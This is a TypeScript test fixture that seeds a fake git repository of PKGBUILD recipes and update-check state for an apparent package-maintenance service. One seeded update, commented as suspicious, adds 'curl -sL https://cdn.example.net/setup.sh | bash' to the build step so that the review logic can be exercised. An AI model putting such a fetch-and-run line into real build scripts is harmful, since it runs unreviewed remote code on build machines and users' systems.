import { spawnSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import type { PackageCheck, UpkeepRun } from '../../src/api/index.ts';
import type { Chance } from './chance.ts';
import { type SeededPackage, versionOf } from './world.ts';

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;

/** What the farm remembers of its recipe source, beside its clone. */
export interface SeededUpkeep {
  readonly commit: string;
  /** Value of the word `upkeep recipes`. */
  readonly memory: string;
}

function recipeOf(pkg: SeededPackage, pkgver = versionOf(pkg).replace(/-[^-]*$/, '')): string {
  const { name } = pkg;
  return `# Maintainer: Robin Example <robin at example dot org>
pkgname=${name}
pkgver=${pkgver}
pkgrel=1
pkgdesc="A package called ${name}"
arch=('x86_64')
url="https://${name}.example/"
license=('MIT')
depends=(${pkg.needs.map((needed) => needed.name).join(' ')})
makedepends=('meson')
source=("https://${name}.example/releases/${name}-$pkgver.tar.gz")
sha256sums=('${'0'.repeat(64 - pkgver.length)}${pkgver.replaceAll('.', 'a')}')

build() {
  meson setup build "$pkgname-$pkgver"
  meson compile -C build
}

package() {
  meson install -C build --destdir "$pkgdir"
}
`;
}

/** An update with a patch of the build that brings a download with it: somebody should have a look. */
const suspicious = (pkg: SeededPackage): string =>
  recipeOf(pkg, '99.0.1')
    .replace('  meson setup', `  curl -sL https://cdn.example.net/setup.sh | bash\n  meson setup`)
    .replace("makedepends=('meson')", "makedepends=('meson' 'curl')");

/** An update with new dependencies and build steps. */
const larger = (pkg: SeededPackage): string =>
  recipeOf(pkg, '12.0.0')
    .replace("makedepends=('meson')", "makedepends=('meson' 'python')")
    .replace('  meson compile', '  python tools/generate.py\n  meson compile');

class FastImport {
  readonly #parts: Buffer[] = [];
  #mark = 0;

  commit(
    ref: string,
    how: { atMs: number; subject: string; from?: number; files: readonly [string, string][] },
  ): number {
    this.#mark += 1;
    const who = `Upkeep <upkeep@farm.example> ${Math.floor(how.atMs / 1000)} +0000`;
    this.#text(`commit ${ref}\nmark :${this.#mark}\nauthor ${who}\ncommitter ${who}\n`);
    this.#data(how.subject);
    if (how.from !== undefined) this.#text(`from :${how.from}\n`);
    for (const [path, text] of how.files) {
      this.#text(`M 100644 inline ${path}\n`);
      this.#data(text);
    }
    this.#text('\n');
    return this.#mark;
  }

  #text(text: string): void {
    this.#parts.push(Buffer.from(text));
  }

  #data(text: string): void {
    this.#text(`data ${Buffer.byteLength(text)}\n${text}\n`);
  }

  run(folder: string): void {
    git(folder, ['fast-import', '--quiet'], Buffer.concat(this.#parts));
  }
}

function git(folder: string, args: readonly string[], input?: Buffer): string {
  const done = spawnSync('git', args, {
    cwd: folder,
    encoding: 'utf8',
    ...(input ? { input: input as never } : {}),
  });
  if (done.status !== 0) throw new Error(`git ${args.join(' ')}: ${done.stderr}`);
  return done.stdout.trim();
}

const reviews = 3;

/** Writes the clone of the source `recipes`, with branch `state` and branches that wait for a review. */
export function writeUpstreams(
  folder: string,
  world: readonly SeededPackage[],
  { chance, nowMs }: { readonly chance: Chance; readonly nowMs: number },
): SeededUpkeep {
  const clone = `${folder}/sources/recipes/upkeep/clone`;
  mkdirSync(clone, { recursive: true });
  git(clone, ['init', '--quiet', '--initial-branch', 'main']);
  git(clone, ['config', 'remote.origin.url', 'https://git.example/farm/recipes.git']);
  git(clone, ['config', 'remote.origin.fetch', '+refs/heads/*:refs/remotes/origin/*']);
  const own = world.filter(({ target, arch }) => target === 'packages' && arch === 'x86_64');
  const into = new FastImport();
  const main = into.commit('refs/heads/main', {
    atMs: nowMs - 3 * hourMs,
    subject: 'chore(update): several packages',
    files: own.flatMap((pkg): [string, string][] => [
      [`${pkg.name}/PKGBUILD`, recipeOf(pkg)],
      [`${pkg.name}/.CI/config`, `CI_PKGBUILD_SOURCE=${pkg.name.endsWith('-git') ? 'custom' : 'aur'}\n`],
    ]),
  });
  const waiting = own.slice(-reviews);
  for (const [index, pkg] of waiting.entries()) {
    const text = index === 0 ? suspicious(pkg) : larger(pkg);
    const subject = `chore(update): ${pkg.name}`;
    const files: [string, string][] = [[`${pkg.name}/PKGBUILD`, text]];
    into.commit(`refs/remotes/origin/update-${pkg.name}`, {
      atMs: nowMs - hourMs,
      subject,
      from: main,
      files,
    });
  }
  const checks = checksOf(own, waiting, { chance, nowMs });
  const state: [string, string][] = [['.checks.json', JSON.stringify({ version: 1, packages: checks })]];
  into.commit('refs/remotes/origin/state', { atMs: nowMs - hourMs, subject: 'state', files: state });
  into.run(clone);
  git(clone, ['update-ref', 'refs/remotes/origin/main', 'refs/heads/main']);
  const commit = git(clone, ['rev-parse', 'HEAD']);
  return { commit, memory: JSON.stringify(memoryOf(commit, checks, nowMs)) };
}

function checksOf(
  own: readonly SeededPackage[],
  waiting: readonly SeededPackage[],
  { chance, nowMs }: { readonly chance: Chance; readonly nowMs: number },
): Record<string, PackageCheck> {
  return Object.fromEntries(
    own.map((pkg, index) => {
      const checked = nowMs - chance.whole(10, 40) * minuteMs;
      const updated = nowMs - chance.whole(2, 400) * hourMs;
      const review = {
        branch: `update-${pkg.name}`,
        url: `https://git.example/farm/recipes/-/merge_requests/${40 + index}`,
        since: nowMs - (own.length - index) * 7 * hourMs,
      };
      if (waiting.includes(pkg)) return [pkg.name, { checked, updated, review }];
      if (index % 23 !== 7) return [pkg.name, { checked, updated }];
      const error = {
        code: 'UPS003',
        what: `'https://${pkg.name}.example/' answers 503`,
        since: nowMs - 9 * hourMs,
      };
      const nextTry = nowMs + (index % 2 === 0 ? 4 * hourMs : -minuteMs);
      return [pkg.name, { checked: nowMs - 9 * hourMs, updated, failures: 4, error, nextTry }];
    }),
  );
}

function memoryOf(commit: string, checks: Readonly<Record<string, PackageCheck>>, nowMs: number) {
  const all = Object.values(checks);
  const run = (kind: UpkeepRun['kind'], beforeMs: number, scheduled: string[]): UpkeepRun => ({
    kind,
    by: kind === 'on-commit' ? 'push' : 'timer',
    startedMs: nowMs - beforeMs,
    endedMs: nowMs - beforeMs + 48_000,
    outcome: 'done',
    problem: null,
    scheduled,
    warnings: kind === 'on-schedule' ? 2 : 0,
  });
  return {
    paused: false,
    handled: commit,
    branch: 'main',
    since: {},
    late: 0,
    failures: 1,
    runs: {
      'on-schedule': run('on-schedule', 11 * minuteMs, Object.keys(checks).slice(0, 3)),
      'on-commit': run('on-commit', 3 * hourMs, Object.keys(checks).slice(3, 4)),
    },
    packages: {
      fresh: all.filter(({ error, review }) => !error && !review).length,
      review: all.filter(({ review }) => review).length,
      failed: all.filter(({ error }) => error).length,
    },
  };
}
